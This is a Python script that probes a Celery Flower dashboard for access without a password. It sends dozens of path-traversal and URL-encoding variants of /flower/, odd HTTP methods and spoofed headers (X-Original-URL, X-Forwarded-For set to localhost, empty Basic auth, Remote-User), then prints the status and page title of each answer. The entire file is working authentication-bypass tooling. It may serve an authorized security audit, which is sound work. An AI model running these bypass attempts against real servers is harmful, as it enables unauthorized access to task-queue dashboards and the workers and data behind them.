"""Asks for Flower without its password, by many spellings of its address; prints the answers."""

import json
import re
import sys

from wire import exchange, statuses

PREFIXES = (
    "/flower/",
    "//flower/",
    "/./flower/",
    "/x/../flower/",
    "/flower//",
    "/flower/./",
    "/flower/x/../",
    "/%66lower/",
    "/flowe%72/",
    "/FLOWER/",
    "/flower%2f",
    "/flower%2F%2F",
    "/flower%5c",
    "/flower\\",
    "/flower;x=1/",
    "/flower/;/",
    "/flower/..;/flower/",
    "/flower/%2e/",
    "/flower/%2e%2e/flower/",
    "/flower%20/",
    "/flower%00/",
    "/flower%0a/",
    "/static/../flower/",
    "/static/..%2fflower/",
    "/static/%2e%2e/flower/",
    "/media/../flower/",
    "/media/..%2f..%2fflower/",
    "/healthz/../flower/",
)
PAGES = (
    "",
    "metrics",
    "metrics/",
    "metrics?x",
    "healthcheck",
    "%68ealthcheck",
    "api/workers",
    "api/tasks?limit=1",
    "static/css/flower.css",
    "login",
)
METHODS = ("HEAD", "POST", "PUT", "OPTIONS", "PROPFIND", "get", "FLOWER")
# Requests whose headers claim something.
CLAIMS = (
    "X-Original-URL: /flower/",
    "X-Rewrite-URL: /flower/",
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-Host: localhost",
    "X-Forwarded-Prefix: /flower",
    "X-Real-IP: 127.0.0.1",
    "Forwarded: for=127.0.0.1;host=localhost",
    "Authorization: Basic",
    "Authorization: Basic Og==",
    "Authorization: Basic Zmxvd2VyOg==",
    "Authorization: Bearer x",
    "Connection: close, Authorization",
    "Connection: Upgrade\nUpgrade: websocket",
    "Cookie: user=admin; flower=1",
    "X-Forwarded-User: flower",
    "Remote-User: flower",
)


def ask(address: str, domain: str, target: str, method: str = "GET", claim: str = "") -> dict[str, object]:
    """Return what was asked, with the status of the answer and the title of its page."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {domain}", "Connection: close"]
    if claim:
        # A second Connection would be another question.
        lines = [line for line in lines if line.split(":")[0] != claim.split(":")[0]] + claim.split("\n")
    answer = exchange(address, domain, "\r\n".join([*lines, "", ""]).encode("latin-1"))
    title = re.search(rb"<title>(.*?)</title>", answer, re.DOTALL)
    return {
        "asked": " ".join([method, target, claim]),
        "status": (statuses(answer) or [0])[0],
        "title": title[1].decode(errors="replace").strip() if title else "",
    }


def main(address: str, domain: str) -> None:
    """Ask for all of them."""
    targets = [prefix + page for prefix in PREFIXES for page in PAGES]
    found = [ask(address, domain, target) for target in targets]
    found += [ask(address, domain, f"https://{name}/flower/") for name in (domain, "127.0.0.1:5555")]
    found += [ask(address, domain, "/flower/", method) for method in METHODS]
    found += [ask(address, domain, "/flower/", claim=claim) for claim in CLAIMS]
    print(json.dumps(found))


main(**json.loads(sys.argv[1]))
